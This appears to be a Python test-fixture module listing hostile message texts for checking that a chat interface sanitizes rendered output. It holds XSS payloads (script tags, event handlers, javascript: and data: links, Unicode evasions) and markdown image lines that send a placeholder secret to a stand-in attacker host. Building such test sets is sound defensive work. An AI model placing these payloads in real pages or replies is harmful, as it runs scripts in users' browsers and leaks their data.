"""Hostile message texts that a visitor, a document or a model could bring into a conversation (reliability I1, I2)."""

from __future__ import annotations

_SCRIPT = "alert(1)"
_HOST = "https://evil.example"

_TAGS = [
    f"<script>{_SCRIPT}</script>",
    f"<ScRiPt src='{_HOST}/x.js'></sCrIpT>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<img src='{_HOST}/?q=SECRET'>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SCRIPT}>",
    f"<iframe src='javascript:{_SCRIPT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"<body onload={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<video><source onerror={_SCRIPT}></video>",
    f"<object data='javascript:{_SCRIPT}'></object>",
    f"<embed src='javascript:{_SCRIPT}'>",
    f"<form action='javascript:{_SCRIPT}'><button>x</button></form>",
    f"<a href='javascript:{_SCRIPT}'>x</a>",
    f"<base href='{_HOST}/'>",
    f"<link rel=stylesheet href='{_HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<style>@import '{_HOST}/x.css';</style>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
    f"<template><img src=x onerror={_SCRIPT}></template>",
    f"</p><script>{_SCRIPT}</script>",
    "<!--><img src=x onerror=alert(1)>-->",
]
_LINKS = [
    f"[x](javascript:{_SCRIPT})",
    f"[x](JaVaScRiPt:{_SCRIPT})",
    f"[x](java\tscript:{_SCRIPT})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{_SCRIPT})",
    f"[x](//evil.example/{_SCRIPT})",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    f"[javascript:{_SCRIPT}](javascript:{_SCRIPT})",
    f"![x]({_HOST}/?q=SECRET)",
    f"![x]({_HOST}/a.svg)",
    f"[![x]({_HOST}/?q=SECRET)]({_HOST})",
    f"![x](data:image/svg+xml,<svg onload={_SCRIPT}>)",
    f'[x]({_HOST} "onmouseover={_SCRIPT}")',
    f"[x]({_HOST}/'onmouseover='{_SCRIPT})",
    f'[x]({_HOST}/"><script>{_SCRIPT}</script>)',
    f'{_HOST}/"onmouseover="{_SCRIPT}',
    f"{_HOST}/<script>{_SCRIPT}</script>",
    f"<{_HOST}/>",
    f"javascript:{_SCRIPT}",
    f"&#106;avascript:{_SCRIPT}",
    f"[a]: {_HOST} 'x'\n\n[a]",
]
_WRAPS = ["{}", "- {}\n- {}", "**{}** and `{}`", "1. {}", "## {}", "```\n{}\n```", "Answer [1]. {}"]
_UNICODE = [
    "\u202e" + f"<script>{_SCRIPT}</script>",
    "\u0000<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\ud83d\ude00" * 20 + f"<img src=x onerror={_SCRIPT}>",
    f"[\u202ex]({_HOST})",
]

PAYLOADS = [
    *(_WRAPS[index % len(_WRAPS)].replace("{}", payload) for index, payload in enumerate(_TAGS * 2 + _LINKS * 2)),
    *_TAGS,
    *_LINKS,
    *_UNICODE,
    "*" * 5000,
    "**" * 2500 + "x",
    "`" * 4999,
    "[" * 5000,
    "![" * 2500,
    "https://" * 600,
]
